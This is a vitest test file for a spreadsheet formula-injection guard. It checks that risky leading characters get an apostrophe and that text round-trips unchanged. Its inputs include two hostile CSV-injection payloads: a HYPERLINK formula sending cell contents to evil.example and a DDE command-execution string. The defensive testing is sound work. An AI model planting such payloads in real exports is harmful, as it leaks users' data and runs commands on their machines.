import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardFormula, unguardFormula } from '../../src/domain/formula-guard.ts';
import { cellText } from '../support/hostile-text.ts';

describe('a cell that a spreadsheet would take for a formula', () => {
  it.each([
    '=1+1',
    '+33 1 23',
    '-2',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
    `=cmd|' /C calc'!A0`,
  ])('%j begins with an apostrophe', (text) => {
    expect(guardFormula(text)).toBe(`'${text}`);
    expect(unguardFormula(`'${text}`)).toBe(text);
  });

  it.each([
    '',
    'Ada',
    "O'Neil",
    "'quoted'",
    "'",
    ' =1',
    'a=b',
    '1-2',
    'ada@example.com',
    '“=1”',
    '👩‍💻',
    'عبد',
  ])('%j is none, and stays as it is', (text) => {
    expect(guardFormula(text)).toBe(text);
    expect(unguardFormula(text)).toBe(text);
  });

  it.each([
    ['a;=1+1;b', "a;'=1+1;b"],
    ['a;b;-2', "a;b;'-2"],
    ['one\n=1+1', "one\n'=1+1"],
    ['one\r\n@SUM(A1)', "one\r\n'@SUM(A1)"],
    ['one;\t=1', "one;\t'=1"],
    ['one\t+1', "one\t'+1"],
    ['one;＝1', "one;'＝1"],
    ['one;"=1+1"', `one;'"=1+1"`],
    ['one; =1+1', "one;' =1+1"],
    ["one;'=1", "one;''=1"],
    ['=1;=2', "'=1;'=2"],
  ])('%j is guarded where a spreadsheet begins a new cell', (text, guarded) => {
    expect(guardFormula(text)).toBe(guarded);
    expect(unguardFormula(guarded)).toBe(text);
  });

  it.each([
    'a;b',
    'a; b; c',
    'Mozilla/5.0 (X11; Linux x86_64)',
    'one\ntwo\n',
    'one\r\ntwo',
    'a=b;c',
    "it's; 'so'",
  ])('%j has none further in, and stays as it is', (text) => {
    expect(guardFormula(text)).toBe(text);
    expect(unguardFormula(text)).toBe(text);
  });

  it('that was guarded by somebody else is guarded once more, so that it comes back as it was', () => {
    expect(guardFormula("'=1")).toBe("''=1");
    expect(guardFormula("''-1")).toBe("'''-1");
    expect(unguardFormula("''=1")).toBe("'=1");
  });

  it('any text comes back as it was, and never begins as a formula in between', () => {
    fc.assert(
      fc.property(cellText, (text) => {
        const guarded = guardFormula(text);
        expect(unguardFormula(guarded)).toBe(text);
        expect(guarded).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
        expect(guarded).not.toMatch(/[;\t\r\n][=+\-@＝＋－＠]/);
      }),
      { numRuns: 500 },
    );
  });
});
